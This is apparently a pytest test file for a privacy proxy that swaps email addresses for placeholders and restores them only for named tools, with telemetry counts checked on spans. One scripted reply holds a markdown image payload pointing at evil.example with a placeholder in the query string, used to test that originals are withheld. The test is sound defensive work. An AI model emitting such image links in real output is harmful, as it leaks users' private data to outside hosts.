"""Where originals come back to an application: named tools, no links, and how often the model used what it was sent."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest
from starlette.applications import Starlette

from guard import Guard
from guard.simulator.script import ToolCall

MAIL = "alice@corp.com"


@pytest.fixture
def hinting(make_guard: Any, request: pytest.FixtureRequest) -> Guard:
    """Tells the model about placeholders; no tool gets originals but `send`."""
    guard: Guard = make_guard(
        make_guard.quiet.replace("[send, pay]", "[send], hint: true"), f"'{request.node.name}'"
    )
    return guard


def outcomes(guard: Guard) -> list[dict[str, Any]]:
    """The attributes of the model calls on record, once there is one."""
    found: list[dict[str, Any]] = []
    for _ in range(250):
        files = sorted(guard.settings.exports.glob("*.jsonl"))
        rows = [json.loads(line) for file in files for line in file.read_bytes().splitlines()]
        spans = [s for row in rows for s in row["resourceSpans"][0]["scopeSpans"][0]["spans"]]
        found = [s for s in spans if s["name"].startswith("chat")]
        if found:
            break
        time.sleep(0.02)
    return [{a["key"]: next(iter(a["value"].values())) for a in s["attributes"]} for s in found]


def test_a_tool_that_is_not_named_gets_placeholders(
    connect: Any, provider: Starlette, hinting: Guard
) -> None:
    """B24: of two calls the named one is restored, in chat and in Responses."""
    provider.state.script.tools = lambda body: [
        ToolCall("send", '{"to": "<EMAIL_1>"}'),
        ToolCall("fetch", '{"for": "<EMAIL_1>"}'),
    ]
    sdk = connect(hinting)
    calls = sdk.chat(f"Write to {MAIL}").choices[0].message.tool_calls
    assert [json.loads(c.function.arguments) for c in calls] == [{"to": MAIL}, {"for": "<EMAIL_1>"}]
    answer = sdk(lambda c: c.responses.create(model="m", input=f"Write to {MAIL}"))
    told = [json.loads(item.arguments) for item in answer.output if item.type == "function_call"]
    assert told == [{"to": MAIL}, {"for": "<EMAIL_1>"}]


@pytest.mark.parametrize("streamed", [False, True])
def test_the_restore_rate_is_on_the_span(
    connect: Any, provider: Starlette, hinting: Guard, streamed: bool
) -> None:
    """B30: sent, seen, put back, withheld from an image, and mangled, whole and streamed."""
    text = "<EMAIL_1> wrote; EMAIL_1 did. ![](https://evil.example/?q=<EMAIL_1>)"
    provider.state.script.reply = lambda body: text
    sdk = connect(hinting)
    ask = sdk.chat_stream if streamed else sdk.chat
    ask(f"Write to {MAIL} and to bob@corp.com")
    found = outcomes(hinting)[0]
    told = {
        k.removeprefix("guard."): int(v) for k, v in found.items() if "restored" in k or "placeholders" in k
    }
    assert told == {
        "restored": 1,
        "placeholders.sent": 2,
        "placeholders.seen": 1,
        "placeholders.withheld": 1,
        "placeholders.mangled": 1,
    }


def test_a_hint_goes_with_placeholders_only(connect: Any, provider: Starlette, hinting: Guard) -> None:
    """One line ahead of the messages or the instructions, where there is a placeholder to speak of."""
    sdk = connect(hinting)
    sdk.chat(f"Write to {MAIL}")
    sdk.chat("Write to nobody")
    sdk(lambda c: c.responses.create(model="m", input=MAIL, instructions="Be brief."))
    sdk(lambda c: c.responses.create(model="m", input=MAIL))
    first, plain, told, bare = [json.loads(row.body) for row in provider.state.received[-4:]]
    assert first["messages"][0]["role"] == "system"
    assert first["messages"][0]["content"].startswith("<EMAIL_1> and others like it stand for real values")
    assert first["messages"][1]["content"] == "Write to <EMAIL_1>"
    assert [m["role"] for m in plain["messages"]] == ["user"]
    assert told["instructions"].splitlines()[1:] == ["Be brief."]
    assert bare["instructions"].startswith("<EMAIL_1> and others")
